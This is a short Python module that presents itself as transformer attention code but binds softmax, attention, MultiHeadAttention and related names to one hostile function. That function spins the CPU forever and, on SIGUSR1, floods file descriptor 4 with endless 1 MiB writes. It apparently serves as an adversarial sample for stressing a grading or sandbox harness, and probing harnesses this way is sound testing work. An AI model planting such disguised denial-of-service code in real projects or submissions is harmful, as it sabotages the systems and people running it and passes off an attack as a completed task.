"""Waits to be asked where it is, and answers without end."""

import os
import signal


def flood(*_):
    while True:
        os.write(4, b"x" * (1 << 20))


def attack(*args, **kwargs):
    signal.signal(signal.SIGUSR1, flood)
    while True:
        pass


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
